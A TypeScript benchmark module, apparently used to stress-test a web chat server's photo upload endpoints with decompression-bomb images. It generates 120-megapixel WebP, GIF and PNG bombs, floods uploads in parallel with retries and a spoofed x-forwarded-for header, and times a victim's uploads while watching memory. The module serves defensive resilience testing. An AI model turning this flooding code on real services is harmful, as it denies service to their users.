// (b) Decode bombs: one account uploads tiny WebP, GIF and PNG files that declare 10950 x 10950
// pixels (120 megapixels, made once with sharp and kept in the temp folder), ten to a request,
// again and again, while another user's small photo uploads are timed.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import sharp, { type Sharp } from "sharp";
import { address, guest, tally, type Account } from "./accounts.ts";
import { peakSampler, type BenchServer } from "./server.ts";

export interface BombOptions {
  /** Upload requests the attacker keeps in flight. */
  parallel: number;
  victimUploads: number;
  limitSeconds: number;
}

export interface BombResult {
  bombBytes: Record<string, number>;
  attack: Record<string, number>;
  baselineMs: number;
  victim: { ms: number; status: string }[];
  rss: { before: number; peak: number };
}

interface Picture {
  name: string;
  type: string;
  bytes: Uint8Array<ArrayBuffer>;
}

const SIDE = 10950;
const FILES_PER_REQUEST = 10;

async function bombs(): Promise<Picture[]> {
  const dir = join(tmpdir(), "webchat-abuse-bombs-v1");
  mkdirSync(dir, { recursive: true });
  const formats = [
    { name: "bomb.webp", type: "image/webp", make: (s: Sharp) => s.webp({ lossless: true, effort: 0 }) },
    { name: "bomb.gif", type: "image/gif", make: (s: Sharp) => s.gif({ effort: 1, colours: 2, dither: 0 }) },
    { name: "bomb.png", type: "image/png", make: (s: Sharp) => s.png({ compressionLevel: 9 }) },
  ];
  const out: Picture[] = [];
  for (const f of formats) {
    const file = join(dir, f.name);
    if (!existsSync(file)) {
      const blank = sharp({ create: { width: SIDE, height: SIDE, channels: 3, background: { r: 200, g: 30, b: 90 } }, limitInputPixels: false });
      writeFileSync(file, await f.make(blank).toBuffer());
    }
    out.push({ name: f.name, type: f.type, bytes: new Uint8Array(readFileSync(file)) });
  }
  return out;
}

/** A photo of about 9 KB: 56 x 56 pixels of noise, which PNG cannot shrink. */
async function photo(): Promise<Picture> {
  const noise = Buffer.from(Array.from({ length: 56 * 56 * 3 }, () => Math.floor(Math.random() * 256)));
  const bytes = await sharp(noise, { raw: { width: 56, height: 56, channels: 3 } }).png().toBuffer();
  return { name: "holiday.png", type: "image/png", bytes: new Uint8Array(bytes) };
}

/** One upload; answers its status (or "timeout"/"error") and how long it took. */
async function upload(server: BenchServer, from: Account, to: Account, pictures: Picture[], timeoutMs: number): Promise<{ status: string; ms: number }> {
  const form = new FormData();
  form.set("receiverId", String(to.id));
  const field = pictures.length === 1 ? "file" : "files";
  for (const p of pictures) form.append(field, new Blob([p.bytes], { type: p.type }), p.name);
  const path = pictures.length === 1 ? "/api/messages/upload" : "/api/messages/upload-multiple";
  const started = performance.now();
  try {
    const r = await fetch(server.http + path, {
      method: "POST",
      headers: { authorization: `Bearer ${from.token}`, "x-forwarded-for": from.address },
      body: form,
      signal: AbortSignal.timeout(timeoutMs),
    });
    await r.arrayBuffer();
    return { status: String(r.status), ms: performance.now() - started };
  } catch (error) {
    const status = error instanceof Error && error.name === "TimeoutError" ? "timeout" : "error";
    return { status, ms: performance.now() - started };
  }
}

export async function decodeBombs(server: BenchServer, o: BombOptions): Promise<BombResult> {
  const [loaded, holiday] = await Promise.all([bombs(), photo()]);
  const attacker = await guest(server, address(4, 0));
  const victim = await guest(server, address(4, 1));
  const before = server.rssMb();
  const baseline = await upload(server, victim, attacker, [holiday], 10_000);

  const peak = peakSampler(server.rssMb);
  const deadline = Date.now() + o.limitSeconds * 1000;
  let victimDone = false;
  const batch = Array.from({ length: FILES_PER_REQUEST }, (_, i) => loaded[i % loaded.length]!);
  const attack: string[] = [];
  const attackers = Array.from({ length: o.parallel }, async () => {
    while (!victimDone && Date.now() < deadline) {
      const { status } = await upload(server, attacker, victim, batch, Math.max(1, deadline - Date.now()));
      attack.push(status);
      // A refusal (429, 503, 415) comes back at once: try again shortly, as a script would.
      if (status !== "201") await Bun.sleep(100);
    }
  });
  await Bun.sleep(300);
  const victimTimes: { ms: number; status: string }[] = [];
  for (let i = 0; i < o.victimUploads && Date.now() < deadline; i++) {
    victimTimes.push(await upload(server, victim, attacker, [holiday], Math.max(1, deadline - Date.now())));
    await Bun.sleep(200);
  }
  victimDone = true;
  await Promise.all(attackers);
  return {
    bombBytes: Object.fromEntries(loaded.map((b) => [b.name, b.bytes.length])),
    attack: tally(attack),
    baselineMs: baseline.ms,
    victim: victimTimes,
    rss: { before, peak: peak() },
  };
}
